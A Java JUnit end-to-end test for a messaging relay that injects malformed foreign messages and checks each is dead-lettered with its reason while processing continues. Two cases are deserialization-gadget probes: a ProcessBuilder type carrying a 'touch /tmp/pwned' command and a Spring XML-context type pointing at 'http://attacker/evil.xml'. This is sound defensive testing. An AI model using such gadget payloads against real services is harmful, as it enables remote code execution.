package org.reliablemessaging.relay.e2e;

import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.UUID;

import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.reliablemessaging.DeadLetter;
import org.reliablemessaging.DeadLetterQuery;
import org.reliablemessaging.DeadLetters;
import org.reliablemessaging.MessageContext;
import org.reliablemessaging.MessageType;
import org.reliablemessaging.ReliableListener;
import org.reliablemessaging.autoconfigure.DeadLetterAutoConfiguration;
import org.reliablemessaging.autoconfigure.ReliableListenerAutoConfiguration;
import org.reliablemessaging.autoconfigure.ReliableMessagingAutoConfiguration;
import org.reliablemessaging.idempotency.autoconfigure.IdempotencyGuardAutoConfiguration;
import org.reliablemessaging.testservices.TestDatabase;
import org.reliablemessaging.testservices.TestDatabases;
import org.reliablemessaging.testservices.TestNames;
import org.springframework.boot.autoconfigure.AutoConfigurations;
import org.springframework.boot.jdbc.autoconfigure.DataSourceAutoConfiguration;
import org.springframework.boot.jdbc.autoconfigure.DataSourceTransactionManagerAutoConfiguration;
import org.springframework.boot.jdbc.autoconfigure.JdbcConnectionDetails;
import org.springframework.boot.jdbc.autoconfigure.JdbcTemplateAutoConfiguration;
import org.springframework.boot.test.context.runner.ApplicationContextRunner;
import org.springframework.context.ApplicationContext;
import org.springframework.jdbc.core.JdbcTemplate;

import io.micrometer.core.instrument.MeterRegistry;
import io.micrometer.core.instrument.simple.SimpleMeterRegistry;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/**
 * Messages the product did not write, put straight on the broker by a raw producer: each is
 * dead-lettered at once with the reason, its key moves on to the next (valid) message, other keys
 * flow meanwhile, and the listener keeps running. One subclass per transport; a transport skips
 * the cases its wire cannot carry (the file broker's keys are Java strings, so never invalid UTF-8).
 */
abstract class BadInputEndToEndTests {

    static final Duration PATIENCE = Duration.ofSeconds(60);

    static final String TYPE = "ledger-entry";

    /** Over the listener's JSON limits in size, far under the transports' record limits. */
    static final int HUGE = 900 * 1024;

    final TestDatabase database = TestDatabases.postgres();

    final String topic = TestNames.unique("ledger");

    /** The transport's auto-configurations and connection. */
    abstract ApplicationContextRunner withTransport(ApplicationContextRunner runner);

    /**
     * Puts one message on the topic as another producer would, bypassing the product.
     * @param key the record key as bytes (Kafka record key, file broker record key; RabbitMQ picks
     *        the partition with it), {@code null} for none
     * @param headers raw header values, written as bytes where the transport allows
     */
    abstract void inject(ApplicationContext context, byte @Nullable [] key, Map<String, byte[]> headers,
            byte[] payload) throws Exception;

    /** Whether the transport can carry a key that is not valid UTF-8. */
    boolean carriesBinaryKeys() {
        return true;
    }

    ApplicationContextRunner service() {
        return withTransport(new ApplicationContextRunner()
            .withConfiguration(AutoConfigurations.of(DataSourceAutoConfiguration.class,
                    DataSourceTransactionManagerAutoConfiguration.class, JdbcTemplateAutoConfiguration.class,
                    ReliableMessagingAutoConfiguration.class, IdempotencyGuardAutoConfiguration.class,
                    DeadLetterAutoConfiguration.class, ReliableListenerAutoConfiguration.class))
            .withBean(JdbcConnectionDetails.class, database::connectionDetails)
            .withBean(MeterRegistry.class, SimpleMeterRegistry::new)
            .withBean(Ledger.class)
            .withPropertyValues("test.topic=" + topic, "spring.datasource.hikari.maximum-pool-size=20"));
    }

    @BeforeEach
    void createEffectTable() {
        try (var dataSource = database.dataSource()) {
            new JdbcTemplate(dataSource).execute("CREATE TABLE ledger_effect (message_id VARCHAR(64) PRIMARY KEY, "
                    + "entry VARCHAR(64) NOT NULL, seq BIGINT NOT NULL)");
        }
    }

    @MessageType(TYPE)
    record LedgerEntry(String id, int amount) {
    }

    static class Ledger {

        final JdbcTemplate jdbc;

        Ledger(JdbcTemplate jdbc) {
            this.jdbc = jdbc;
        }

        @ReliableListener(topic = "${test.topic}", group = "ledger", concurrency = 8, maxAttempts = 3,
                backoff = "100ms")
        void on(LedgerEntry entry, MessageContext context) {
            jdbc.update("INSERT INTO ledger_effect (message_id, entry, seq) VALUES (?, ?, ?)", context.messageId(),
                    entry.id(), context.sequence());
        }
    }

    /** One bad message on its own key, the reason its dead letter must give, then a valid one on that key. */
    record Case(String name, byte @Nullable [] key, Map<String, byte[]> headers, byte[] payload, String reason,
            boolean followedOnItsKey) {

        Case(String name, byte @Nullable [] key, Map<String, byte[]> headers, byte[] payload, String reason) {
            this(name, key, headers, payload, reason, key != null);
        }
    }

    @Test
    void everyKindOfForeignMessageIsDeadLetteredWithItsReasonAndItsKeyAndOtherKeysMoveOn() throws Exception {
        List<Case> cases = cases();
        service().run(context -> {
            assertThat(context).hasNotFailed();
            List<String> expected = new ArrayList<>();
            int round = 0;
            for (Case bad : cases) {
                inject(context, bad.key(), bad.headers(), bad.payload());
                if (bad.followedOnItsKey()) {
                    // The same key, next in line: must not wait behind the bad one.
                    String id = "after-" + bad.name();
                    injectValid(context, bad.key(), id, 2);
                    expected.add(id);
                }
                String other = "other-" + round++;
                injectValid(context, ("good-" + round % 3).getBytes(StandardCharsets.UTF_8), other, round);
                expected.add(other);
            }

            await().atMost(PATIENCE).untilAsserted(() -> assertThat(entries(context))
                .containsExactlyInAnyOrderElementsOf(expected));
            DeadLetters deadLetters = context.getBean(DeadLetters.class);
            DeadLetterQuery ledger = DeadLetterQuery.all().group("ledger").limit(1000);
            await().atMost(PATIENCE).until(() -> deadLetters.count(ledger) == cases.size());
            List<DeadLetter> letters = deadLetters.list(ledger);
            for (Case bad : cases) {
                DeadLetter letter = letterOf(letters, bad)
                    .orElseThrow(() -> new AssertionError("no dead letter for " + bad.name() + " in " + letters));
                assertThat(letter.attempts()).as(bad.name() + ": attempts").isEqualTo(1);
                assertThat(letter.errorMessage()).as(bad.name() + ": reason").contains(bad.reason());
                assertThat(letter.payload()).as(bad.name() + ": payload kept as received").isEqualTo(bad.payload());
            }

            // Still running: a last valid message is handled.
            injectValid(context, "good-last".getBytes(StandardCharsets.UTF_8), "last", 1);
            await().atMost(PATIENCE).until(() -> entries(context).contains("last"));
            assertThat(deadLetters.count(ledger)).isEqualTo(cases.size());
        });
    }

    List<Case> cases() {
        List<Case> cases = new ArrayList<>();
        cases.add(new Case("no-headers", utf8("k-no-headers"), Map.of(), valid("no-headers"),
                "no rm-type header"));
        cases.add(bad("malformed-json", headers -> {
        }, utf8("{not json"), "malformed " + TYPE + " payload"));
        cases.add(bad("unknown-type", headers -> headers.put("rm-type", utf8("price-change")), valid("x"),
                "unknown type 'price-change'"));
        cases.add(bad("class-name-type", headers -> headers.put("rm-type", utf8("java.lang.ProcessBuilder")),
                utf8("{\"command\":[\"touch\",\"/tmp/pwned\"]}"), "unknown type 'java.lang.ProcessBuilder'"));
        cases.add(bad("spring-class-type",
                headers -> headers.put("rm-type", utf8("org.springframework.context.support.FileSystemXmlApplicationContext")),
                utf8("\"http://attacker/evil.xml\""), "unknown type 'org.springframework"));
        cases.add(bad("nul-in-type", headers -> headers.put("rm-type", utf8("ledger\u0000entry")), valid("x"),
                "unknown type 'ledger"));
        cases.add(bad("huge-payload", headers -> {
        }, hugeUnterminatedJson(), "malformed " + TYPE + " payload"));
        cases.add(bad("deep-nesting", headers -> {
        }, utf8("{\"id\":\"deep\",\"amount\":1,\"ignored\":" + "[".repeat(100_000)),
                "malformed " + TYPE + " payload"));
        cases.add(bad("no-id", headers -> headers.remove("rm-id"), valid("no-id"), "no rm-id header"));
        cases.add(bad("negative-seq", headers -> headers.put("rm-seq", utf8("-5")), valid("x"), "rm-seq"));
        cases.add(bad("garbage-seq", headers -> headers.put("rm-seq", utf8("1e3")), valid("x"), "rm-seq"));
        cases.add(bad("missing-seq", headers -> headers.remove("rm-seq"), valid("x"), "rm-seq"));
        if (carriesBinaryKeys()) {
            byte[] invalid = {'k', '-', (byte) 0xC3, (byte) 0x28, (byte) 0xFF};
            Map<String, byte[]> headers = headers("invalid-utf8-key", invalid, 1);
            cases.add(new Case("invalid-utf8-key", invalid, headers, valid("x"), "not valid UTF-8", false));
        }
        return cases;
    }

    private Case bad(String name, java.util.function.Consumer<Map<String, byte[]>> edit, byte[] payload,
            String reason) {
        byte[] key = utf8("k-" + name);
        Map<String, byte[]> headers = headers(name, key, 1);
        edit.accept(headers);
        return new Case(name, key, headers, payload, reason);
    }

    /** The headers the product writes, with {@code rm-id} derived from the case so its letter can be found. */
    static Map<String, byte[]> headers(String id, byte[] key, long sequence) {
        Map<String, byte[]> headers = new LinkedHashMap<>();
        headers.put("rm-id", utf8(idOf(id)));
        headers.put("rm-type", utf8(TYPE));
        headers.put("rm-key", key);
        headers.put("rm-seq", utf8(Long.toString(sequence)));
        return headers;
    }

    static String idOf(String name) {
        return UUID.nameUUIDFromBytes(utf8(name)).toString();
    }

    /** The letter of a case: by its {@code rm-id}, or by its payload when it has none. */
    private Optional<DeadLetter> letterOf(List<DeadLetter> letters, Case bad) {
        String id = bad.headers().containsKey("rm-id") ? idOf(bad.name()) : null;
        return letters.stream()
            .filter(letter -> id != null ? id.equals(letter.messageId())
                    : letter.messageId() == null && Arrays.equals(bad.payload(), letter.payload()))
            .findFirst();
    }

    void injectValid(ApplicationContext context, byte[] key, String entry, long sequence) throws Exception {
        inject(context, key, headers(entry, key, sequence), valid(entry));
    }

    static byte[] valid(String entry) {
        return utf8("{\"id\":\"" + entry + "\",\"amount\":1}");
    }

    static byte[] hugeUnterminatedJson() {
        return utf8("{\"id\":\"" + "x".repeat(HUGE));
    }

    static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    static List<String> entries(ApplicationContext context) {
        return ApplicationOutbox.jdbc(context).queryForList("SELECT entry FROM ledger_effect", String.class);
    }
}
